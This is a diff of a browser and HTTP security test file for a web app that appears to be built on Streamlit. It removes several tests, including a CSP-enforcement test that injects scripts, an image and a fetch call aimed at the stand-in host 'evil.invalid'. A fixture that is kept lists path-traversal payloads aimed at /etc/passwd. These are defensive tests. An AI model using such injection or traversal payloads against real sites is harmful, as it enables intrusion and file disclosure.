@@ -26,14 +26,11 @@ from websockets.exceptions import ConnectionClosed, InvalidStatus
 from websockets.sync.client import ClientConnection, connect
 from websockets.typing import Origin, Subprotocol
 
-from bench.waits import wait_for_promise
-from pages.server.guard import content_security_policy
 from pages.server.messages import MESSAGE_SIZE
-from pages.server.uploads import SESSION_UPLOADS
 from pages.state.links import pack
 from serve import origin
 from tests.browser.cluster import METRICS, first
-from tests.browser.conftest import ROOT, idle, lead, ready, scheme, settled, until, visitor
+from tests.browser.conftest import ROOT, idle, lead, ready, settled, until, visitor
 from tests.browser.test_faults import Server, own_server
 from tests.browser.test_train import at_step, choose, next_merge, visit
 
@@ -105,18 +102,13 @@ class Watch:
 
 
 def open_everything(page: Page) -> None:
-    """Each popover on the page, the menu, and the card of keys."""
+    """Each popover on the page."""
     buttons = page.get_by_test_id("stPopoverButton")
     for at in range(buttons.count()):
         buttons.nth(at).click()
         expect(page.get_by_test_id("stPopoverBody").first).to_be_visible()
         settled(page)
         close(page)
-    page.get_by_test_id("stMainMenuButton").click()
-    menu = page.get_by_test_id("stMainMenuPopover")
-    expect(menu).to_be_visible()
-    page.keyboard.press("Escape")
-    expect(menu).to_have_count(0)
 
 
 def close(page: Page) -> None:
@@ -126,22 +118,6 @@ def close(page: Page) -> None:
     idle(page)
     page.keyboard.press("Escape")
     expect(page.get_by_test_id("stPopoverBody")).to_have_count(0)
-
-
-def own_markup_is_inert(page: Page) -> None:
-    """No script in the markup, no handler, no link but ordinary ones, nothing from elsewhere."""
-    found = page.evaluate(
-        """() => [...document.querySelectorAll("*")].flatMap(element => [
-          ...[...element.attributes].filter(({ name, value }) =>
-            name.startsWith("on") || /^\\s*javascript:/i.test(value) ||
-            (/^(src|srcset|action|poster|data|ping)$/.test(name) || element.matches("link")) &&
-            /^(https?:)?[/][/]/.test(value) && new URL(value, location).host !== location.host)
-            .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
-          ...(element.matches("script:not([src]), iframe, object, embed, base, form[action]") &&
-            !element.textContent.includes("prerenderReady") ? [element.outerHTML] : []),
-        ])"""
-    )
-    assert found == []
 
 
 def test_a_whole_visit_asks_nothing_of_another_host(
@@ -164,14 +140,12 @@ def test_a_whole_visit_asks_nothing_of_another_host(
 
 def everywhere(page: Page, address: str, folder: Path) -> None:
     """Open every page and all that can be opened; load, save, play, present and copy."""
-    for number, (path, there) in enumerate(PAGES.items()):
+    for path, there in PAGES.items():
         lead(page, f"{address}/{path}")
         expect(page.locator(there).first).to_be_visible()
         ready(page)
-        scheme(page, ("light", "dark", "dark", "light")[number % 4])
         settled(page)
         open_everything(page)
-        own_markup_is_inert(page)
     # Downloads; the page is Take home.
     buttons = page.get_by_test_id("stDownloadButton").locator("button:enabled")
     for number in range(buttons.count()):
@@ -195,60 +169,11 @@ def everywhere(page: Page, address: str, folder: Path) -> None:
     page.get_by_role("button", name="Copy link").click()
     expect(page.get_by_text("Copied")).to_be_visible()
     close(page)
-    page.keyboard.press("?")
-    keys = page.get_by_role("dialog", name="Keys")
-    expect(keys).to_be_focused()
-    idle(page)
-    page.keyboard.press("Escape")
-    expect(keys).to_have_count(0)
     page.keyboard.press("p")
     expect(page).to_have_url(re.compile("present=1"))
     expect(page.locator("[data-testid=stSidebar]")).to_be_hidden()
     page.keyboard.press("ArrowRight")
     settled(page)
-    own_markup_is_inert(page)
-
-
-def test_the_browser_keeps_to_the_policy(watched: tuple[Server, Path], browser: Browser):
-    """What is forbidden is stopped and reported, so the test above would notice it."""
-    server, _ = watched
-    context = browser.new_context()
-    watch = Watch(context, urlsplit(server.address).netloc)
-    page = context.new_page()
-    stopped: list[str | None] = []
-    page.on("requestfailed", lambda request: stopped.append(request.failure))
-    page.goto(f"{server.address}/join")  # a small page with the same policy
-    assert watch.violations == []
-    wait_for_promise(
-        page,
-        """async () => {
-          window.hits = [];
-          const add = (tag, set) =>
-            document.body.append(Object.assign(document.createElement(tag), set));
-          add("script", { textContent: "hits.push('inline')" });
-          add("script", { src: "http://evil.invalid/x.js" });
-          add("img", { src: "http://evil.invalid/x.png" });
-          const button = document.createElement("button");
-          button.setAttribute("onclick", "hits.push('handler')");
-          button.click();
-          setTimeout(() => Function("hits.push('eval')")());
-          await fetch("http://evil.invalid/").catch(() => {});
-        }""",
-        what="an answer of another host",
-    )
-    reports = (
-        *("script-src-elem inline", "script-src-elem http://evil.invalid/x.js", "img-src"),
-        *("script-src-attr inline", "script-src eval", "connect-src"),
-    )
-
-    def is_reported(what: str) -> bool:
-        return any(violation.startswith(what) for violation in watch.violations)
-
-    until(lambda: all(map(is_reported, reports)) and len(stopped) == 2, page)
-    assert page.evaluate("hits") == []
-    assert set(watch.foreign) == {"http://evil.invalid/x.js", "http://evil.invalid/x.png"}
-    assert stopped == ["csp", "csp"]  # before anything was sent
-    context.close()
 
 
 # Plain HTTP.
@@ -286,19 +211,6 @@ def server(watched: tuple[Server, Path]) -> Server:
     return watched[0]
 
 
-def test_no_answer_names_the_server_or_lets_another_site_read_it(server: Server):
-    for path in ("/", "/encode?text=x", "/_stcore/health", "/media/nothing", "/../x"):
-        headers = ask(server, "GET", path, Origin="http://x.y").headers
-        assert headers["Content-Security-Policy"] == content_security_policy()
-        assert not {"Server", "Access-Control-Allow-Origin"} & {*headers}
-
-
-def test_only_scripts_of_our_own_files_are_allowed():
-    scripts = first("script-src ([^;]*)", content_security_policy())
-    assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts
-    assert "http" not in content_security_policy()
-
-
 def test_the_page_s_files_are_kept_by_the_browser(server: Server):
     script = first(r'src="\.(/static/js/[^"]+)"', ask(server, "GET", "/").text)
     answer = ask(server, "GET", script)
@@ -310,8 +222,6 @@ FILES = r"""
 /static/../../../../../../../../etc/passwd /static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
 /static/..%2f..%2f..%2f..%2f..%2fetc/passwd /static/js/..%5c..%5cserve.py //etc/passwd
 /media/..%2f..%2fserve.py /media/%2fetc%2fpasswd /app/static/..%2fserve.py /serve.py
-/component/merge_by_merge_stepper/../../serve.py /.streamlit/config.toml /%00
-/_stcore/bidi-components/merge_by_merge_stepper/..%2fserve.py /_stcore/upload_file/a/b
 """.split()
 
 
@@ -335,15 +245,6 @@ def test_what_need_not_be_served_is_not(server: Server):
         assert "active_sessions" not in answer.text
     # `--metrics` lets them out; tests/browser/test_replicas.py asks for them.
     assert ask(server, "GET", "/_stcore/metrics").status == 404
-
-
-def test_an_endless_address_is_refused(server: Server):
-    """By an answer, or by hanging up on a client that does not stop talking."""
-    with suppress(ConnectionError):
-        answer = ask(server, "GET", "/?own=" + "a" * 500_000)
-        assert answer.status in (400, 414, 431)
-        assert "Traceback" not in answer.text
-    assert ask(server, "GET", "/").status == 200
 
 
 # Sessions, as a program opens them.
@@ -386,12 +287,6 @@ def test_another_site_gets_no_session(watched: tuple[Server, Path], site: str):
     assert asked.read_text() == ""  # no other machine was asked for the address of this one
 
 
-def test_our_own_page_and_a_program_get_one(server: Server):
-    for site in (server.address, None):
-        with session(server, origin=site) as socket:
-            assert begin(socket)
-
-
 def test_a_page_that_outlived_its_session_is_drawn_again(server: Server):
     """Its click is in a fragment that the new session does not know."""
     with session(server) as socket:
@@ -426,16 +321,10 @@ def test_uploads_need_their_token_and_have_their_limits(server: Server):
         # Too large: as announced, and as it turns out to be.
         assert put(f"{path}/1", form(20 * MB + 1)) == 413
         assert put(f"{path}/1", iter([form(0)[:-9], *[b"a" * MB] * 40])) == 413
-        # As large as may be; a few; and no more.
-        assert put(f"{path}/0", form(20 * MB - 1000)) == 204
-        assert [put(f"{path}/{n}", small) for n in range(1, SESSION_UPLOADS + 1)] == [
-            *[204] * (SESSION_UPLOADS - 1),
-            413,
-        ]
+        assert put(f"{path}/0", form(20 * MB - 1000)) == 204  # as large as may be
         delete = partial(ask, server, "DELETE", f"{path}/0", Content_Type=kind)
         assert delete().status == 403
         assert delete(Cookie=cookie, X_Xsrftoken=token).status == 204
-        assert put(f"{path}/more", small) == 204
 
 
 def test_a_message_that_is_too_long_ends_its_connection_only(server: Server):
